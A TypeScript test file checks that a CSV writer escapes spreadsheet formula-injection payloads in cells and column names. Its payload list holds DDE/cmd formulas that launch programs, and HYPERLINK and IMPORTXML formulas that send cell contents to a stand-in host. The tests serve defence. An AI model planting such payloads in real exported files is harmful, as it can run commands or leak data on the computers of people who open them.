// Formula injection: a text that a spreadsheet would compute. The file is opened by an independent reader, and each cell
// is judged as a spreadsheet judges it: by its first character.
import { parse as csvParse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvBytes, type CsvWriteOptions } from '../../src/write/csv.ts';
import { schemaOf, tableOf } from '../small-tables.ts';

const TEXT = { type: 'utf8', role: 'attribute' } as const;
const NUMBER = { type: 'float64', role: 'measure' } as const;

/** Payloads published by OWASP and PayloadsAllTheThings, and what hides them. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"open")', '@SUM(1+1)*cmd|\' /C calc\'!A0', "+1+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=1+1";=1+1', '\t=1+1', '\r=1+1', '\n=1+1', '=1+1\r\n=2+2',
  '＝1+1', '＋1+1', '－1+1', '＠SUM(A1)', '==1', '-=1', '+', '-', '=', '@', '-A1', '+A1', '-(1)', '"=1+1"', '=DDE("cmd";"/C calc";"x")', '=IMPORTXML(CONCAT("http://x",A1),"//a")',
];

/** How a spreadsheet begins to compute; a number with a sign is a number. */
function isComputed(cell: string): boolean {
  if (/^[+-][\d\s.,%]*\d[\d\s.,%]*$/.test(cell)) return false;
  return /^[=+\-@\t\r\n＝＋－＠]/.test(cell);
}

async function cellsOf(values: readonly string[], options: CsvWriteOptions): Promise<string[]> {
  const pieces: Uint8Array[] = [];
  for await (const piece of csvBytes(tableOf(schemaOf({ text: TEXT, other: TEXT }), values.map((value) => [value, 'x'])), options)) pieces.push(piece);
  const rows = csvParse(Buffer.concat(pieces).toString('utf8'), { bom: true, delimiter: options.profile === 'fr-excel' ? ';' : ',', record_delimiter: options.profile === 'fr-excel' ? '\r\n' : '\n' }) as string[][];
  return rows.slice(1).map((row) => row[0]!);
}

describe.each(['open-data', 'fr-excel'] as const)('in the profile %s', (profile) => {
  test('the attack succeeds where formulas are kept: every payload but the quoted one is computed', async () => {
    const cells = await cellsOf(PAYLOADS, { profile, formulas: 'keep' });
    expect(cells).toEqual(PAYLOADS);
    expect(cells.filter(isComputed)).toHaveLength(PAYLOADS.length - 1);
  });

  test('and fails where they are escaped: none is computed, and all can still be read', async () => {
    const cells = await cellsOf(PAYLOADS, { profile });
    expect(cells.filter(isComputed)).toEqual([]);
    expect(cells.map((cell) => cell.replace(/^'/, ''))).toEqual(PAYLOADS);
  });

  test('no text at all is computed', async () => {
    const awkward = fc.array(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", '1', 'A', ';', ',', '%', '＝', '.'), { minLength: 1, maxLength: 6 }).map((parts) => parts.join(''));
    await fc.assert(fc.asyncProperty(fc.array(awkward, { minLength: 1, maxLength: 20 }), async (values) => {
      expect((await cellsOf(values, { profile })).filter(isComputed)).toEqual([]);
    }), { numRuns: 200 });
  });

  test('a text is changed only where it would be computed', async () => {
    await fc.assert(fc.asyncProperty(fc.array(fc.string({ unit: 'grapheme', minLength: 1 }).filter((text) => !text.includes('\0') && !isComputed(text)), { minLength: 1, maxLength: 20 }), async (values) => {
      expect(await cellsOf(values, { profile })).toEqual(values);
    }), { numRuns: 200 });
  });

  test('numbers are never harmed, signs or not', async () => {
    const numbers = [-5, 5, -0.25, -1e21, -1e-7];
    const pieces: Uint8Array[] = [];
    for await (const piece of csvBytes(tableOf(schemaOf({ n: NUMBER, t: TEXT }), numbers.map((value) => [value, String(value)])), { profile })) pieces.push(piece);
    const text = Buffer.concat(pieces).toString();
    for (const [index, value] of numbers.entries()) {
      const line = text.split(/\r?\n/)[index + 1]!;
      expect(Number(line.split(profile === 'fr-excel' ? ';' : ',')[0]!.replace(',', '.'))).toBe(value);
    }
  });

  test('column names are escaped too', async () => {
    const pieces: Uint8Array[] = [];
    for await (const piece of csvBytes(tableOf(schemaOf({ '=1+1': TEXT, '-x': TEXT, ok: TEXT }), []), { profile })) pieces.push(piece);
    expect(Buffer.concat(pieces).toString('utf8').replace('\uFEFF', '').trim().split(/[;,]/)).toEqual(["'=1+1", "'-x", 'ok']);
  });
});
